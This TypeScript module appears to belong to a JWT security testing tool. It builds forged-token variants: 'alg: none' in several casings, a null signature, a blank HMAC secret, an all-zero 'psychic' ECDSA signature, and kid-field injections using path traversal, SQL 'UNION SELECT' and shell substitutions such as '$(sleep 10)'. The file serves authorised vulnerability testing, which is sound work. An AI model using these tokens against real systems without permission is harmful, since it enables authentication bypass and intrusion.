/**
 * Variants that need no key of the server's: `alg: none` in every casing,
 * an empty `alg`, a null signature, a blank HMAC secret, the psychic ECDSA
 * signature, and `kid` injections. Built from the token alone.
 */
import { jwsAlgorithm } from '../jws/algorithms';
import { encodePart } from '../jws/base64url';
import { hmacAlgOf, hmacToken, withHeader, type Target } from './forge';
import type { AttackVariant } from './types';

// Each casing a blocklist written as `alg === "none"` lets through (RFC 7518 §3.6 names "none").
const NONE_CASINGS = [
  { id: 'alg-none', alg: 'none' },
  { id: 'alg-none-capital', alg: 'None' },
  { id: 'alg-none-upper', alg: 'NONE' },
  { id: 'alg-none-mixed', alg: 'nOnE' },
  { id: 'alg-empty', alg: '' },
] as const;

const NONE_REFERENCE = 'RFC 7518 §3.6; CVE-2015-9235 (node-jsonwebtoken), CVE-2015-2951';

/** `alg: none` in every casing and an empty `alg`, each without and with the original signature. */
export function noneVariants(target: Target): AttackVariant[] {
  return NONE_CASINGS.flatMap(({ id, alg }) => {
    const header = { ...target.header, alg };
    const what = alg === '' ? 'An empty "alg"' : `"alg": "${alg}"`;
    return [
      {
        id,
        title: `${what}, no signature`,
        explanation: `${what} and an empty signature part: a verifier that lets the header pick the algorithm checks nothing.`,
        reference: NONE_REFERENCE,
        token: withHeader(target, header, ''),
      },
      {
        id: `${id}-sig`,
        title: `${what}, original signature kept`,
        explanation: `${what} with the original signature left in place: for a verifier that rejects an empty signature part but then skips the check.`,
        reference: NONE_REFERENCE,
        token: withHeader(target, header, target.signature),
      },
    ];
  });
}

/** The header and payload unchanged, the signature part empty. */
export function nullSignature(target: Target): AttackVariant {
  return {
    id: 'null-signature',
    title: 'Null signature',
    explanation:
      'The original header and payload with an empty signature: some libraries compare a missing signature as "nothing to check".',
    reference: 'CVE-2020-28042 (ServiceStack); RFC 7515 §5.2',
    token: `${target.headerB64}.${target.payload}.`,
  };
}

/** Re-signed with an empty HMAC secret, under the token's HMAC algorithm (or HS256). */
export async function blankSecret(target: Target): Promise<AttackVariant> {
  const header = { ...target.header, alg: hmacAlgOf(target) };
  return {
    id: 'blank-secret',
    title: `${header.alg} with a blank secret ("")`,
    explanation:
      'Signed with an empty HMAC secret: a server whose secret is unset (an empty environment variable) accepts it.',
    reference: 'CWE-1391; RFC 7518 §3.2 (a key at least as long as the hash)',
    token: await hmacToken(header, target.payload, ''),
  };
}

/** r = s = 0 for an ES256/384/512 token; undefined for any other algorithm. */
export function psychic(target: Target): AttackVariant | undefined {
  const algorithm = jwsAlgorithm(target.alg);
  if (algorithm?.family !== 'ECDSA' || !algorithm.signatureBytes || algorithm.noble)
    return undefined;
  return {
    id: 'psychic',
    title: `Psychic signature (${target.alg}, r = s = 0)`,
    explanation:
      'An ECDSA signature of all zero bytes: Java 15 to 18 skipped the 0 < r, s < n check and accepted it for any message and any key.',
    reference: 'CVE-2022-21449',
    token: withHeader(target, target.header, encodePart(new Uint8Array(algorithm.signatureBytes))),
  };
}

/** The path traversal a file-based key lookup follows to an empty file. */
export const KID_DEV_NULL = '../../../../../../../dev/null';
/** The SQL injection that makes a string-built key query return "k". */
export const KID_SQL = "' UNION SELECT 'k' -- ";
/** The key {@link KID_SQL} selects. */
export const KID_SQL_KEY = 'k';

/** `kid` injections: path traversal, SQL injection, shell command markers. */
export async function kidVariants(target: Target, secret: string): Promise<AttackVariant[]> {
  const alg = hmacAlgOf(target);
  const reference = 'RFC 7515 §4.1.4 (kid is an opaque hint); CWE-22, CWE-89, CWE-78';
  const commandKey = secret;
  const commands = [
    { id: 'kid-command', kid: 'key|sleep 10', what: 'a pipe into "sleep 10"' },
    { id: 'kid-command-subshell', kid: '$(sleep 10)', what: 'a "$(sleep 10)" substitution' },
    { id: 'kid-command-backtick', kid: '`sleep 10`', what: 'a backtick "sleep 10"' },
  ];
  return [
    {
      id: 'kid-dev-null',
      title: 'kid path traversal to /dev/null, empty key',
      explanation: `"kid": "${KID_DEV_NULL}" and an empty HMAC key: a server that reads the key from a file named by kid reads nothing.`,
      reference,
      token: await hmacToken({ ...target.header, alg, kid: KID_DEV_NULL }, target.payload, ''),
      kidStore: 'files',
    },
    {
      id: 'kid-sql',
      title: 'kid SQL injection selecting the key "k"',
      explanation: `"kid": "${KID_SQL}" signed with "k": a key query built by pasting kid into SQL returns "k".`,
      reference,
      token: await hmacToken({ ...target.header, alg, kid: KID_SQL }, target.payload, KID_SQL_KEY),
      kidStore: 'sql',
    },
    ...(await Promise.all(
      commands.map(async ({ id, kid, what }) => ({
        id,
        title: `kid command injection: ${what}`,
        explanation: `"kid": "${kid}": if the response is 10 s late, the server passes kid to a shell. Signed with ${commandKey ? 'the known secret' : 'an empty key'}.`,
        reference,
        token: await hmacToken({ ...target.header, alg, kid }, target.payload, commandKey),
      })),
    )),
  ];
}
